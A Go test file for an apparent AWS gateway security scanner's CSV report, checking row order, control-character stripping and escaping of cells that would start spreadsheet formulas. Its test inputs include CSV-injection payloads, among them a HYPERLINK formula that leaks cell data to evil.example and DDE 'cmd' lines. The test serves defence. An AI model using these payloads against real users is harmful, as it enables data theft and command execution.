package findings

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gatewatch/gatewatch/collectors/snapshot"
)

// readCSV parses a CSV report as a spreadsheet would import it.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("not valid CSV: %v\n%s", err, data)
	}
	return rows
}

func TestCSV(t *testing.T) {
	t.Parallel()
	r := testReport()
	r.Fixed = []Finding{finding("GW201", webTGARN, snapshot.TypeTargetGroup, acctA, "eu-west-1", "was fixed", nil)}
	r.Findings[0].Baseline = BaselineNew
	r.Finalize()
	got := render(t, "csv", r)
	golden(t, "report.csv", got)

	rows := readCSV(t, got)
	if diff := cmp.Diff(csvHeader, rows[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	// One row per finding, suppressed and fixed ones included, in report
	// order, each with its status.
	var status []string
	for _, row := range rows[1:] {
		status = append(status, row[0]+" "+row[8])
	}
	want := []string{"GW104 new", "GW101 open", "GW108 open", "GW106 open", "GW107 suppressed", "GW112 open", "GW201 open", "GW201 fixed"}
	if diff := cmp.Diff(want, status); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	first := rows[1]
	if diff := cmp.Diff([]string{"GW104", "critical", "Public entry point without a WAF web ACL", acctB, "us-east-1", legacyALBARN,
		"Internet-facing ALB legacy has no web ACL and no CloudFront distribution in front.", "SecurityHub:APIGateway.4 SecurityHub:ELB.?", "new"}, first); diff != "" {
		t.Errorf("first row (-want +got):\n%s", diff)
	}
	// The hostile tag's escapes and newline are gone, its text kept.
	for _, row := range rows {
		for _, cell := range row {
			for _, c := range cell {
				if c < 0x20 || c == 0x7f || c >= 0x80 && c < 0xa0 {
					t.Errorf("control character %U in cell %q", c, cell)
				}
			}
		}
	}
}

// TestCSVCannotStartAFormula: a cell that a spreadsheet would run as a
// formula (OWASP CSV injection: = + - @ tab CR first) gets a leading ',
// whichever column the AWS string lands in; a near miss stays as it is.
func TestCSVCannotStartAFormula(t *testing.T) {
	t.Parallel()
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"  =1+1", // some spreadsheets skip leading blanks
	}
	for _, h := range hostile {
		f := finding("GW101", h, snapshot.TypeRestStage, h, h, h, nil)
		f.Title, f.Controls = h, []string{h}
		r := &Report{Findings: []Finding{f}}
		r.Finalize()
		row := readCSV(t, render(t, "csv", r))[1]
		for i, cell := range row {
			if i == 0 || i == 1 || i == 8 { // rule, severity, status: ours
				continue
			}
			if cell[0] != '\'' {
				t.Errorf("%s cell %q of %q starts a formula", csvHeader[i], cell, h)
			}
		}
	}
	for _, s := range []string{"a=b", "GW101", "arn:aws:apigateway:eu-west-1::/restapis/a1b2c3d4e5", "100% -5"} {
		if got := csvCell(s); got != s {
			t.Errorf("csvCell(%q) = %q, want it unchanged", s, got)
		}
	}
}
